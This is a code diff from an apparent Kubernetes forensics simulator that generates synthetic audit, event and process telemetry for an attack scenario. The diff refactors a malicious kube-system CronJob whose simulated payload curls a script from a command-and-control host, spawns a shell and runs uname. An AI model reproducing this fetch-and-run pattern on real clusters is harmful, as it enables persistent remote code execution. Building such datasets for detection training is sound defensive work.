@@ -5,7 +5,8 @@ from __future__ import annotations
 from typing import Any
 
 from kubeforensics.simulate.clock import NS
-from kubeforensics.simulate.cluster import ServiceAccount, Workload
+from kubeforensics.simulate.cluster import Process, ServiceAccount, Workload
+from kubeforensics.simulate.cronjobs import cron_run
 from kubeforensics.simulate.dataset import MS, Dataset
 from kubeforensics.simulate.formats import audit as fa
 from kubeforensics.simulate.formats import k8s as fk
@@ -126,11 +127,9 @@ def run(ds: Dataset) -> None:
 
     # the CronJob's runs (recorded under the CronJob step)
     first = (t_cron // (600 * NS) + 1) * 600 * NS
-    jobs = 0
     for tj in range(first, cl.t1 - 60 * NS, 600 * NS):
         tr.current = step_cron
-        _cron_run(ds, tj, w, capp, c2)
-        jobs += 1
+        cron_run(ds, tj, w, capp, lambda sh, start: _payload(ds, sh, start, c2))
     tr.end()
 
     t += rng.randrange(120, 300) * NS
@@ -176,36 +175,8 @@ def run(ds: Dataset) -> None:
     tr.end()
 
 
-def _cron_run(ds: Dataset, t: int, w: Workload, app: App, c2: str) -> None:
-    cl, rng = ds.cl, ds.rng
-    job = f"{w.name}-{t // NS // 60}"
-    job_uid = ds.ids.uuid()
-    ds.api(t, user=fa.sa_user(cl.sa("kube-system", "cronjob-controller")), verb="create", code=201,
-           uri="/apis/batch/v1/namespaces/kube-system/jobs", ip=cl.control_plane.ip, ua=fa.UA_KCM,
-           ref=fa.ref("jobs", "kube-system", job, api_group="batch"))
-    ds.event(t, "CronJob", "kube-system", w.name, w.uid, "SuccessfulCreate", f"Created job {job}",
-             component="cronjob-controller", api_version="batch/v1")
-    jw = Workload("Job", "kube-system", job, job_uid, {"job-name": job}, w.sa, t, spec_extra={"app": app})
-    pod = add_app_pod(cl, ds.ids, app, jw, rng.choice(cl.workers), 0, t + 50 * MS, flags="execve rootcwd clone")
-    pod.owner_kind, pod.owner_name, pod.owner_uid = "Job", job, job_uid
-    pod.name = f"{job}-{ds.ids.suffix()}"
-    ds.api(t + 50 * MS, user=fa.sa_user(cl.sa("kube-system", "job-controller")), verb="create", code=201,
-           uri="/api/v1/namespaces/kube-system/pods", ip=cl.control_plane.ip, ua=fa.UA_KCM,
-           ref=fa.ref("pods", "kube-system", pod.name))
-    ds.event(t + 50 * MS, "Job", "kube-system", job, job_uid, "SuccessfulCreate", f"Created pod: {pod.name}",
-             component="job-controller", api_version="batch/v1")
-    start = ds.start_pod(t + 50 * MS, pod)
-    sh = pod.containers[0].init
-    assert sh is not None
+def _payload(ds: Dataset, sh: Process, start: int, c2: str) -> None:
     curl = ds.spawn(start + 5 * MS, sh, "/usr/bin/curl", f"-s http://{c2}/s.sh", exit_after=700 * MS)
     ds.connect(start + 10 * MS, curl, c2, 80)
     sh2 = ds.spawn(start + 6 * MS, sh, "/bin/sh", "", exit_after=2 * NS)
     ds.spawn(start + 800 * MS, sh2, "/usr/bin/uname", "-a", exit_after=3 * MS)
-    ds.exit(sh, start + 2500 * MS)
-    assert pod.containers[0].shim is not None
-    ds.exit(pod.containers[0].shim, start + 2600 * MS)
-    ds.event(start + 4 * NS, "Job", "kube-system", job, job_uid, "Completed", "Job completed",
-             component="job-controller", api_version="batch/v1")
-    ds.event(start + 5 * NS, "CronJob", "kube-system", w.name, w.uid, "SawCompletedJob",
-             f"Saw completed job: {job}, status: Complete", component="cronjob-controller", api_version="batch/v1")
-    pod.deleted_ns = start + 3 * NS
